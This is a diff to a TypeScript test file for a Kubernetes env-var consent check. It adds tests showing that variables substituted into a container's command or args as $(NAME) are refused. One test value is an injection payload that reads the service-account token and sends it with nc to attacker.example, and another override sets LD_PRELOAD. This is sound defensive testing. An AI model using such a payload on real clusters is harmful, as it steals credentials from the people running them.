@@ -10,6 +10,7 @@ import {
   assertHttpCallAllowed,
   assertRunnable,
   CommandNotAllowedError,
+  commandParams,
   EnvNotAllowedError,
   FallbackNotAllowedError,
   type FallbackPolicy,
@@ -32,7 +33,7 @@ const env: V1EnvVar[] = [
 ];
 const meta = (allowEnv?: string): V1ObjectMeta => ({ name: 'nightly', ...(allowEnv === undefined ? {} : { annotations: { [ALLOW_ENV_ANNOTATION]: allowEnv } }) });
 const check = (overrides: Record<string, string>, allowEnv?: string) => () => {
-  assertEnvConsent('Job', 'nightly', meta(allowEnv), env, overrides);
+  assertEnvConsent('Job', 'nightly', meta(allowEnv), { env }, overrides);
 };
 
 /** Every loader or interpreter variable the issue names, and a few more of each family. */
@@ -119,6 +120,71 @@ describe('assertEnvConsent', () => {
 
   it('names every refused variable in one answer', () => {
     expect(check({ DB_HOST: 'x', LD_PRELOAD: '/tmp/x.so', BATCH_DATE: 'ok' })).toThrow(/"DB_HOST".*"LD_PRELOAD"/);
+  });
+});
+
+/**
+ * The kubelet substitutes `$(NAME)` in command and args with the container's variables before any shell sees
+ * them (kubernetes/kubernetes pkg/kubelet/container/helpers.go `ExpandContainerCommandAndArgs`, with the grammar
+ * of third_party/forked/golang/expansion/expand.go, ported and tested in test/core/expansion.test.ts). On the
+ * documented pattern `sh -c "echo report for $(REPORT_DATE)"`, a value for REPORT_DATE is shell code.
+ */
+describe('assertEnvConsent with $(NAME) in the command or args', () => {
+  const reportJob = {
+    command: ['sh', '-c', 'echo report for $(REPORT_DATE) in $$(ESCAPED)'],
+    args: ['--region=$(REGION_LINE)'],
+    env: [
+      { name: 'REPORT_DATE', value: '2026-11-23' },
+      { name: 'ESCAPED', value: 'x' },
+      { name: 'REGION', value: 'west' },
+      { name: 'REGION_LINE', value: 'region $(REGION)' },
+      { name: 'QUIET', value: 'true' },
+    ],
+  };
+  const attack = 'x; cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc attacker.example 80';
+  const run = (overrides: Record<string, string>, allowEnv?: string) => () => {
+    assertEnvConsent('Job', 'report', meta(allowEnv), reportJob, overrides);
+  };
+
+  it.each([
+    { name: 'a declared plain name the command substitutes', variable: 'REPORT_DATE' },
+    { name: 'a name an args value substitutes', variable: 'REGION_LINE' },
+    { name: 'a name reached through a plain value the args substitute', variable: 'REGION' },
+  ])('refuses $name, without and under "*", with a 400 that says why', ({ variable }) => {
+    for (const allowEnv of [undefined, '*', 'OTHER,*']) {
+      expect(run({ [variable]: attack }, allowEnv)).toThrow(EnvNotAllowedError);
+      expect(run({ [variable]: attack }, allowEnv)).toThrow(`"${variable}" is substituted into the command or args of Job "report" as $(${variable})`);
+      expect(run({ [variable]: attack }, allowEnv)).toThrow('"*" does not cover it');
+    }
+  });
+
+  it('accepts it when the annotation names it', () => {
+    expect(run({ REPORT_DATE: '2026-12-01' }, 'REPORT_DATE')).not.toThrow();
+    expect(run({ REPORT_DATE: '2026-12-01', REGION: 'east' }, '*,REGION,REPORT_DATE')).not.toThrow();
+  });
+
+  it('an escaped $$(NAME) is no reference: that name stays a plain parameter', () => {
+    expect(run({ ESCAPED: attack })).not.toThrow();
+    expect(run({ QUIET: 'false' })).not.toThrow();
+  });
+
+  it('a command the caller writes itself (not passed as the source\'s) refers to nothing of the source', () => {
+    expect(() => {
+      assertEnvConsent('Job', 'report', meta(), { env: reportJob.env }, { REPORT_DATE: 'x' });
+    }).not.toThrow();
+  });
+
+  it('applies to any container it is given: the kubelet expands a container\'s own env into its own command', () => {
+    const sidecar = { command: ['sh', '-c', 'upload $(TARGET)'], env: [{ name: 'TARGET', value: 'a' }] };
+    expect(() => {
+      assertEnvConsent('CronJob', 'report', meta(), sidecar, { TARGET: attack });
+    }).toThrow('"TARGET" is substituted into the command or args of CronJob "report"');
+  });
+
+  it('commandParams lists the substituted names the annotation does not name', () => {
+    expect(commandParams(meta(), reportJob)).toEqual(['REGION', 'REGION_LINE', 'REPORT_DATE']);
+    expect(commandParams(meta('*,REGION'), reportJob)).toEqual(['REGION_LINE', 'REPORT_DATE']);
+    expect(commandParams(meta(), { env: reportJob.env })).toEqual([]);
   });
 });
 
